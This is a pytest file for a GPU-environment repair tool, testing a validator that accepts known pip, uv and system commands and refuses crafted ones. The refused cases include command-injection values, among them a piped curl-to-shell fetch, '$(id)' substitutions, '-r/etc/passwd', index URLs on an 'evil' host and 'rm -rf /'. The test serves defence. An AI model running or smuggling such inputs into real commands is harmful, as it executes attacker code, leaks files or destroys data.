"""fix runs a step only when every argument matches the pattern of its place in the command."""

from __future__ import annotations

import pytest

from gpudoctor.remedy.patterns import NEVER_RUN, check

PY = "/home/ana/project/.venv/bin/python"


def held(kind, risk, *argv, python=PY, allow_system=False):
    return check(kind, risk, tuple(argv), python, allow_system)


@pytest.mark.parametrize(
    "argv",
    [
        (
            PY,
            "-m",
            "pip",
            "install",
            "torch==2.5.1+cu124",
            "--index-url",
            "https://download.pytorch.org/whl/cu124",
        ),
        (PY, "-m", "pip", "install", "torch==2.11.*", "torchvision==0.26.*"),
        (PY, "-m", "pip", "install", "tensorflow[and-cuda]==2.20.0"),
        (PY, "-m", "pip", "install", "jax[cuda13]"),
        (
            PY,
            "-m",
            "pip",
            "install",
            "onnxruntime-gpu==1.23.2",
            "--extra-index-url",
            "http://127.0.0.1:8080/x",
        ),
        (PY, "-m", "pip", "uninstall", "-y", "onnxruntime", "onnxruntime-gpu"),
        (PY, "-m", "pip", "install", "nvidia-nccl-cu12==2.21.5", "torch==2.6.0rc1", "x==1.0.post1.dev3"),
    ],
)
def test_the_steps_the_planner_writes_run(argv):
    assert held("pip", "python-env", *argv) is None


def test_uv_steps_run():
    argv = (
        "uv",
        "pip",
        "install",
        "--python",
        PY,
        "torch==2.5.1+cu124",
        "--index-url",
        "https://x.org/whl/cu124",
    )
    assert held("uv", "python-env", *argv) is None
    assert held("uv", "python-env", "uv", "pip", "uninstall", "--python", PY, "torch") is None


@pytest.mark.parametrize(
    "argv, reason",
    [
        # A version string from a crafted torch/version.py or METADATA, placed into a pin.
        ((PY, "-m", "pip", "install", "torch==2.5.1;curl${IFS}x|sh"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch==2.5.1 --index-url=http://evil"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch==$(id)"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch @ https://evil/x.whl"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "-r/etc/passwd"), "option '-r/etc/passwd' is not one"),
        (
            (PY, "-m", "pip", "install", "torch", "--trusted-host", "evil"),
            "option '--trusted-host' is not one",
        ),
        (
            (PY, "-m", "pip", "install", "torch", "--index-url", "https://u:p@evil/x"),
            "is not a plain http(s) URL",
        ),
        ((PY, "-m", "pip", "install", "torch", "--index-url", "file:///tmp/x"), "is not a plain http(s) URL"),
        (
            (PY, "-m", "pip", "install", "torch", "--index-url", "https://evil/x?y=1"),
            "is not a plain http(s) URL",
        ),
        ((PY, "-m", "pip", "install", "torch", "--index-url"), "--index-url without a URL"),
        ((PY, "-m", "pip", "install", "-y", "torch"), "option '-y' is not one"),
        ((PY, "-m", "pip", "download", "torch"), "not of the form"),
        ((PY, "-m", "pip", "install"), "not of the form"),
        (("/usr/bin/python3", "-m", "pip", "install", "torch"), "is not the target environment's"),
        (("/a b/python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
        (("/venv/../../usr/bin/python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
        (("python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
    ],
)
def test_a_smuggled_argument_makes_the_step_refuse(argv, reason):
    h = held("pip", "python-env", *argv)
    assert h is not None and h.refused, h
    assert reason in h.reason


def test_an_unknown_target_refuses_every_package_step():
    h = held("pip", "python-env", PY, "-m", "pip", "install", "torch", python=None)
    assert h.refused and "target environment's (unknown)" in h.reason


@pytest.mark.parametrize("kind", sorted(NEVER_RUN))
def test_driver_reboot_manual_and_env_steps_stay_instructions_even_with_allow_system(kind):
    h = held(kind, "reboot" if kind == "reboot" else "system", "sudo", "reboot", allow_system=True)
    assert h is not None and not h.refused and h.reason == NEVER_RUN[kind]


def test_system_commands_need_allow_system():
    argv = ("sudo", "systemctl", "restart", "nvidia-fabricmanager")
    h = held("command", "system", *argv)
    assert not h.refused and "--allow-system" in h.reason
    assert held("command", "system", *argv, allow_system=True) is None
    assert (
        held(
            "command",
            "system",
            "nvidia-smi",
            "-q",
            "-d",
            "PERFORMANCE,TEMPERATURE",
            "-i",
            "0",
            allow_system=True,
        )
        is None
    )
    assert held("command", "system", PY, "-m", "pip", "check", allow_system=True) is None


@pytest.mark.parametrize(
    "argv, reason",
    [
        (("sudo", "systemctl", "reboot"), "systemctl reboot is not one fix runs"),
        (("systemctl", "--force", "poweroff"), "systemctl poweroff is not one fix runs"),
        (("sudo", "apt-get", "install", "-y", "nvidia-driver-580"), "not 'apt-get'"),
        (("rm", "-rf", "/"), "not 'rm'"),
        (("nvidia-smi", "-i", "0;reboot"), "'0;reboot' is not a plain token"),
        (("journalctl", "-u", "$(id)"), "'$(id)' is not a plain token"),
        (("/usr/bin/python3", "-m", "pip", "check"), "is not the target environment's"),
    ],
)
def test_system_commands_outside_the_known_shapes_refuse(argv, reason):
    h = held("command", "system", *argv, allow_system=True)
    assert h is not None and h.refused and reason in h.reason, h
